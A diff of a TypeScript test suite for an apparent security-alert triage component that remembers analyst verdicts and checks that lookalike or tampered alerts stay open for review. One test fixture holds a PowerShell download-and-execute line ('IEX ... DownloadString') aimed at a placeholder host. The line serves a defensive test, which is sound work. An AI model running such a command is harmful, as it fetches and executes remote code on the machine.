@@ -5,7 +5,9 @@ import type { AutonomyPolicy } from './autonomy-policy.ts';
 import { alertWith, intelOn, noIntel, SENSOR_METADATA, signals, verdict } from './fixtures.test-support.ts';
 import { similarityKey } from './similarity-key.ts';
 import { threatProfile } from './threat-profile.ts';
-import { VerdictMemory } from './verdict-memory.ts';
+import { type MemoryInput, VerdictMemory } from './verdict-memory.ts';
+
+const run = async (m: VerdictMemory, input: MemoryInput) => (await m.apply(input)).result;
 
 const RECOMMEND: AutonomyPolicy = {
   mode: 'recommend',
@@ -74,7 +76,7 @@ describe('VerdictMemory', () => {
   it('closes a twin of an alert an analyst marked FALSE_POSITIVE, citing the feedback', async () => {
     const m = memory();
     const fb = await judge(m, backup(), 'FALSE_POSITIVE');
-    const r = await m.apply({
+    const r = await run(m, {
       alertId: 'x1',
       alert: backup('powershell.exe -File C:\\Scripts\\backup.ps1 -Run 9050'),
       enrichment: noIntel,
@@ -105,7 +107,7 @@ describe('VerdictMemory', () => {
       intelOn('185.220.101.52', 'malicious'),
       intelOn('185.220.101.52', 'suspicious'),
     ]) {
-      const r = await m.apply({ alertId: 'x', alert: backup(), enrichment, result: verdict() });
+      const r = await run(m, { alertId: 'x', alert: backup(), enrichment, result: verdict() });
       expect(r.classification).toBe('NEEDS_REVIEW');
       expect(r.flags).toContain('memory_conflict');
       expect(r.memory?.[0]?.new_evidence?.[0]).toMatch(/^intel: 185\.220\.101\.52 is (malicious|suspicious)/);
@@ -122,7 +124,7 @@ describe('VerdictMemory', () => {
       similarity: similarityKey(backup()),
       threat: threatProfile(verdict(), intelOn('185.220.101.52', 'malicious')),
     });
-    const r = await m.apply({
+    const r = await run(m, {
       alertId: 'x',
       alert: backup(),
       enrichment: intelOn('185.220.101.52', 'malicious'),
@@ -137,17 +139,17 @@ describe('VerdictMemory', () => {
     const withTechnique = verdict({
       mitre: [{ id: 'T1105', name: 'Ingress Tool Transfer', tactic: 'command-and-control' }],
     });
-    const r1 = await m.apply({ alertId: 'x', alert: backup(), enrichment: noIntel, result: withTechnique });
+    const r1 = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: withTechnique });
     expect(r1).toMatchObject({ classification: 'NEEDS_REVIEW', flags: ['memory_conflict'] });
     expect(r1.memory?.[0]?.new_evidence).toEqual(['signal: T1105']);
-    const injected = await m.apply({
+    const injected = await run(m, {
       alertId: 'x',
       alert: backup(),
       enrichment: noIntel,
       result: verdict({ flags: ['injection_suspected'] }),
     });
     expect(injected.classification).toBe('NEEDS_REVIEW');
-    const rulesSayThreat = await m.apply({
+    const rulesSayThreat = await run(m, {
       alertId: 'x',
       alert: backup(),
       enrichment: noIntel,
@@ -165,13 +167,13 @@ describe('VerdictMemory', () => {
       'powershell.exe -File C:\\Scripts\\backup.ps1 -Run 4411; IEX(New-Object Net.WebClient).DownloadString("http://x/a")',
     );
     expect(similarityKey(appended).key).not.toBe(similarityKey(backup()).key);
-    const r = await m.apply({ alertId: 'x', alert: appended, enrichment: noIntel, result: verdict() });
+    const r = await run(m, { alertId: 'x', alert: appended, enrichment: noIntel, result: verdict() });
     expect(r.decided_by).toBe('rules');
     // Same words, other numbers (the most an attacker can vary): the key matches, so any threat
     // evidence the rules find in it (here the technique of its payload) keeps it open.
     const lookalike = backup('powershell.exe -File C:\\Scripts\\backup.ps1 -Run 1337');
     expect(similarityKey(lookalike).key).toBe(similarityKey(backup()).key);
-    const r2 = await m.apply({
+    const r2 = await run(m, {
       alertId: 'x',
       alert: lookalike,
       enrichment: noIntel,
@@ -196,7 +198,7 @@ describe('VerdictMemory', () => {
         ),
       );
     await judge(m, forged('backup.ps1'), 'FALSE_POSITIVE');
-    const r = await m.apply({
+    const r = await run(m, {
       alertId: 'x',
       alert: forged('backup.ps1'),
       enrichment: noIntel,
@@ -207,7 +209,7 @@ describe('VerdictMemory', () => {
     expect(r.memory?.[0]?.outcome).toBe('conflict');
     // TRUE_POSITIVE feedback may still raise: content can only add suspicion.
     await judge(m, forged('evil.ps1'), 'TRUE_POSITIVE');
-    const r2 = await m.apply({
+    const r2 = await run(m, {
       alertId: 'y',
       alert: forged('evil.ps1'),
       enrichment: noIntel,
@@ -223,7 +225,7 @@ describe('VerdictMemory', () => {
   it('TRUE_POSITIVE feedback raises matching alerts; TRUE_POSITIVE and FALSE_POSITIVE together escalate', async () => {
     const m = memory();
     await judge(m, backup(), 'TRUE_POSITIVE');
-    const r = await m.apply({
+    const r = await run(m, {
       alertId: 'x',
       alert: backup(),
       enrichment: noIntel,
@@ -231,7 +233,7 @@ describe('VerdictMemory', () => {
     });
     expect(r).toMatchObject({ classification: 'TRUE_POSITIVE', decided_by: 'memory' });
     await judge(m, backup(), 'FALSE_POSITIVE');
-    const both = await m.apply({ alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
+    const both = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
     expect(both.classification).toBe('NEEDS_REVIEW');
     expect(both.memory?.map((c) => c.verdict).sort()).toEqual(['FALSE_POSITIVE', 'TRUE_POSITIVE']);
   });
@@ -240,7 +242,7 @@ describe('VerdictMemory', () => {
     const m = memory();
     const fb = await judge(m, backup(), 'FALSE_POSITIVE');
     await m.feedback.revoke(fb.id, 'lead');
-    const r = await m.apply({ alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
+    const r = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
     expect(r.decided_by).toBe('rules');
     expect((await m.feedback.get(fb.id))?.revoked_by).toBe('lead');
     const audit = await m.feedback.audit();
@@ -256,10 +258,10 @@ describe('VerdictMemory', () => {
       threat: threatProfile(verdict(), noIntel),
     });
     expect(
-      (await m.apply({ alertId: 'y', alert: one, enrichment: noIntel, result: verdict() })).decided_by,
+      (await run(m, { alertId: 'y', alert: one, enrichment: noIntel, result: verdict() })).decided_by,
     ).toBe('memory');
     expect(
-      (await m.apply({ alertId: 'z', alert: backup(), enrichment: noIntel, result: verdict() })).decided_by,
+      (await run(m, { alertId: 'z', alert: backup(), enrichment: noIntel, result: verdict() })).decided_by,
     ).toBe('rules');
   });
 
@@ -271,7 +273,7 @@ describe('VerdictMemory', () => {
     expect(ttl).toBeGreaterThan(86_000_000);
     // What the TTL will do in a day, now: the record goes.
     await fx.redis.del(`${fx.prefix}:m${n}:memory:fb:${fb.id}`);
-    const r = await m.apply({ alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
+    const r = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
     expect(r.decided_by).toBe('rules');
     expect((await m.feedback.list(0, 10)).items).toEqual([]);
   });
@@ -285,7 +287,7 @@ describe('VerdictMemory', () => {
     const m = memory(auto);
     const fp = verdict({ classification: 'FALSE_POSITIVE', confidence: 95 });
     const apply = (alert: NormalizedAlert, result: TriageResult) =>
-      m.apply({ alertId: 'x', alert, enrichment: noIntel, result });
+      run(m, { alertId: 'x', alert, enrichment: noIntel, result });
     expect((await apply(backup(), fp)).disposition).toBe('auto_closed');
     expect((await apply(backup(), { ...fp, confidence: 80 })).disposition).toBe('recommended_close');
     expect((await apply(backup(), { ...fp, decided_by: 'llm' })).disposition).toBe('recommended_close');
